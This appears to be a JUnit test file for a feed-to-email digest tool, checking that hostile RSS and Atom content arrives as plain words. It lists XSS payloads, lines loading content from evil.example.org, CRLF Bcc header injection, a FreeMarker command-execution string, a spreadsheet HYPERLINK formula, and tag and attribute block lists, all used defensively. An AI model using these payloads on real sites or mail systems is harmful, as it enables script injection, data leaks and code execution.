package coop.vigie.spine;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import coop.vigie.Corpus;
import coop.vigie.cli.HomeInTest;
import coop.vigie.cli.HomeInTest.Ran;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.Supplier;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What attackers write into titles and texts arrives as words: nothing acts, loads or splits (promise P6). */
class HostileInputTest {

    /** Of more payloads than these, each goes in one form only: nobody reads a mail of a thousand items. */
    private static final int MANY = 500;

    private static final ObjectMapper JSON = new ObjectMapper();

    /** Everything that the frame of a digest is made of; whatever else comes from outside. */
    private static final Set<String> HARMLESS = Set.of(
            "html",
            "head",
            "meta",
            "title",
            "style",
            "body",
            "div",
            "table",
            "tbody",
            "tr",
            "td",
            "th",
            "p",
            "span",
            "a",
            "h1",
            "h2",
            "h3",
            "ul",
            "ol",
            "li",
            "br",
            "hr",
            "strong",
            "em",
            "b",
            "i",
            "small",
            "s",
            "del",
            "blockquote",
            "main",
            "header",
            "footer",
            "section",
            "time");

    private static final List<String> OWN_PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>",
            "\"><svg onload=alert(1)>",
            "<style>@import url(//evil.example.org/x.css)</style>",
            "<table background=\"http://evil.example.org/x.png\"><tr><td style=\"background:url(http://evil.example.org/y)\">x",
            "<iframe src=\"https://evil.example.org\"></iframe><form action=\"//evil.example.org\"><input name=q></form>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example.org\"><base href=\"https://evil.example.org/\">",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "Subject\r\nBcc: victim@example.org\r\n\r\n<script>alert(1)</script>",
            "%0d%0aBcc:%20victim@example.org",
            "${7*7} #{7*7} <#assign x='freemarker.template.utility.Execute'?new()>${x('id')} [=7*7]",
            "=HYPERLINK(\"http://evil.example.org\")",
            "\u202Egnp.exe\u202C \u2066x\u2069 \uFEFF\u200B zero",
            "]]><script>alert(1)</script>",
            "</title></head><body onload=alert(1)>",
            "\uD83D\uDE00 e\u0301 \uFB01 \u0000 \u0001 \u001B[31m\u0007");

    @TempDir
    private Path folder;

    private Site site;
    private HomeInTest home;

    @BeforeEach
    void aReaderOfEverything() throws IOException {
        site = new Site();
        home = new HomeInTest(folder, "2026-11-16T08:00:00Z");
        home.groups(Entries.EVERYTHING);
    }

    @AfterEach
    void closeTheSite() {
        site.close();
    }

    @ParameterizedTest
    @ValueSource(strings = {"CDATA", "ESCAPED", "ATOM_HTML", "ATOM_XHTML"})
    void arrivesAsWords_whateverTheFormOfTheFeed(Form form) {
        sendAndCheck(OWN_PAYLOADS, form);
    }

    @ParameterizedTest
    @CsvSource({
        "xss/dompurify.jsonl, payload",
        "xss/h5sc.jsonl, payload",
        "xss/owasp_filter_evasion.jsonl, payload",
        "xss/owasp_antisamy.jsonl, input",
        "xss/miniflux_sanitizer.jsonl, input",
        "xss/payloadbox.jsonl, payload",
        "security-payloads/payloads.jsonl, payload",
        "robustness/blns.jsonl, text"
    })
    void arrivesAsWords_whateverTheAttack(String file, String field) throws IOException {
        List<String> payloads = read(file, field);

        List<Form> forms = List.of(Form.CDATA, Form.ESCAPED, Form.ATOM_HTML);
        for (int i = 0; i < forms.size(); i++) {
            sendAndCheck(payloads.size() <= MANY ? payloads : everyThird(payloads, i), forms.get(i));
        }
    }

    @ParameterizedTest
    @CsvSource({
        "xss/dompurify.jsonl, payload",
        "xss/h5sc.jsonl, payload",
        "xss/owasp_filter_evasion.jsonl, payload",
        "xss/owasp_antisamy.jsonl, input",
        "xss/miniflux_sanitizer.jsonl, input",
        "xss/payloadbox.jsonl, payload"
    })
    void isCleanedByExplainHtml(String file, String field) throws IOException {
        List<String> payloads = read(file, field);
        var lines = new StringBuilder();
        for (String payload : payloads) {
            lines.append(JSON.writeValueAsString(
                            JSON.createObjectNode().put("id", "x").put("html", payload)))
                    .append('\n');
        }
        Path input = home.write("payloads.jsonl", lines.toString());

        Ran ran = home.run("explain", "html", "--jsonl", input.toString());

        assertEquals(0, ran.code(), ran::err);
        List<String> answers = ran.out().lines().toList();
        assertEquals(payloads.size(), answers.size());
        for (int i = 0; i < answers.size(); i++) {
            String html = JSON.readTree(answers.get(i)).at("/html").asText();
            String payload = payloads.get(i);
            check(Jsoup.parseBodyFragment(html), () -> payload + " gave " + html);
        }
    }

    @Test
    void keepsATableOfCallsOnItsLines_whenATitleHasLineBreaksAndEscapes() {
        feed(OWN_PAYLOADS, Form.CDATA);
        home.fetch();

        Ran table = home.run("search", "*");

        assertFalse(table.out().contains("\u001B"), table::toString);
        assertFalse(table.out().contains("\nBcc"), table::toString);
    }

    private static List<String> everyThird(List<String> payloads, int from) {
        return IntStream.range(0, payloads.size())
                .filter(index -> index % 3 == from)
                .mapToObj(payloads::get)
                .toList();
    }

    /** How a payload is put into a feed. */
    enum Form {
        CDATA,
        ESCAPED,
        ATOM_HTML,
        ATOM_XHTML
    }

    private void sendAndCheck(List<String> payloads, Form form) {
        feed(payloads, form);
        Ran fetched = home.fetch();
        JsonNode source = fetched.json().at("/sources/0");
        int before = home.outbox().size();
        Ran sent = home.send();

        assertTrue(source.at("/new").asInt() + source.at("/changed").asInt() > 0, fetched::toString);
        assertEquals(0, sent.code(), sent::toString);
        List<Path> messages = home.outbox().subList(before, home.outbox().size());
        assertEquals(1, messages.size(), () -> form + " " + fetched);
        check(Mail.read(messages.getFirst()));
    }

    private void feed(List<String> payloads, Form form) {
        site.feed("/feed", document(payloads, form));
        home.feeds(
                Entries.feed("hostile-" + form.name().toLowerCase(Locale.ROOT).replace('_', '-'), site.url("/feed")));
    }

    private String document(List<String> payloads, Form form) {
        List<String> items = new ArrayList<>();
        int number = 0;
        for (String payload : payloads) {
            items.add(item("p" + ++number, payload, form));
        }
        return switch (form) {
            case CDATA, ESCAPED -> Rss.of(items.toArray(String[]::new));
            case ATOM_HTML, ATOM_XHTML ->
                "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>x</title><id>urn:x</id>" + String.join("\n", items)
                        + "</feed>";
        };
    }

    private static String item(String id, String payload, Form form) {
        String written = payload.replaceAll("[\\x00-\\x08\\x0B\\x0C\\x0E-\\x1F\\uFFFE\\uFFFF]", "");
        String text = written + " Date limite : 12 décembre 2026.";
        return switch (form) {
            case CDATA ->
                "<item><guid>%s</guid><title>%s</title><link>%s</link><description>%s</description></item>"
                        .formatted(id, cdata(written), cdata(written), cdata(text));
            case ESCAPED ->
                "<item><guid>%s</guid><title>%s</title><author>%2$s</author><description>%s</description></item>"
                        .formatted(id, escaped(written), escaped(text));
            case ATOM_HTML ->
                "<entry><id>%s</id><title type=\"html\">%s</title><link href=\"%2$s\"/><content type=\"html\">%s</content></entry>"
                        .formatted(id, escaped(written), escaped(text));
            case ATOM_XHTML ->
                "<entry><id>%s</id><title type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\">%s</div></title><content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\">%s</div></content></entry>"
                        .formatted(id, xhtml(written), xhtml(text));
        };
    }

    private static String cdata(String text) {
        return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>";
    }

    private static String escaped(String text) {
        return text.replace("&", "&amp;")
                .replace("<", "&lt;")
                .replace(">", "&gt;")
                .replace("\"", "&quot;");
    }

    private static String xhtml(String text) {
        Document document = Jsoup.parseBodyFragment(text);
        document.outputSettings().syntax(Document.OutputSettings.Syntax.xml);
        return document.body().html();
    }

    private static void check(Mail mail) {
        assertAll(
                () -> assertEquals("anne@example.org", mail.to()),
                () -> assertEquals("null", mail.header("Bcc")),
                () -> assertFalse(
                        mail.subject().matches("(?s).*[\\p{Cntrl}\\u202A-\\u202E\\u2066-\\u2069].*"), mail::subject),
                () -> assertEquals(
                        mail.headerNames().size(),
                        mail.headerNames().stream().distinct().count(),
                        mail.headerNames()::toString),
                () -> assertFalse(mail.html().contains("uid=0"), mail::html));
        check(Jsoup.parse(mail.html()), mail::html);
    }

    private static void check(Document html, Supplier<String> found) {
        for (Element element : html.getAllElements()) {
            if (element instanceof Document) {
                continue;
            }
            assertTrue(HARMLESS.contains(element.normalName()), () -> element.normalName() + " in " + found.get());
            for (Attribute attribute : element.attributes()) {
                check(element, attribute, found);
            }
            if (element.normalName().equals("style")) {
                assertFalse(element.data().matches("(?si).*(@import|url\\s*\\(|expression|javascript).*"), found);
            }
        }
    }

    private static void check(Element element, Attribute attribute, Supplier<String> found) {
        String name = attribute.getKey().toLowerCase(Locale.ROOT);
        String value = attribute.getValue();
        assertFalse(name.startsWith("on"), () -> attribute + " in " + found.get());
        assertFalse(
                Set.of(
                                "src",
                                "srcset",
                                "background",
                                "action",
                                "formaction",
                                "poster",
                                "data",
                                "xlink:href",
                                "ping",
                                "srcdoc")
                        .contains(name),
                () -> attribute + " in " + found.get());
        if (name.equals("href")) {
            assertTrue(value.matches("(?s)(https?://|mailto:)[^\\s<>\"]*"), () -> attribute + " in " + found.get());
        }
        if (name.equals("style")) {
            assertFalse(
                    value.matches("(?si).*(url\\s*\\(|expression|javascript|@import|behavior|position\\s*:).*"),
                    () -> attribute + " in " + found.get());
        }
        if (element.normalName().equals("meta")) {
            assertFalse(name.equals("http-equiv") && value.equalsIgnoreCase("refresh"), found);
        }
    }

    private static List<String> read(String file, String field) throws IOException {
        Path path = Corpus.require(file);
        List<String> payloads = new ArrayList<>();
        try (Stream<String> lines = Files.lines(path)) {
            for (String line : lines.toList()) {
                payloads.add(JSON.readTree(line).path(field).asText());
            }
        }
        return payloads;
    }
}
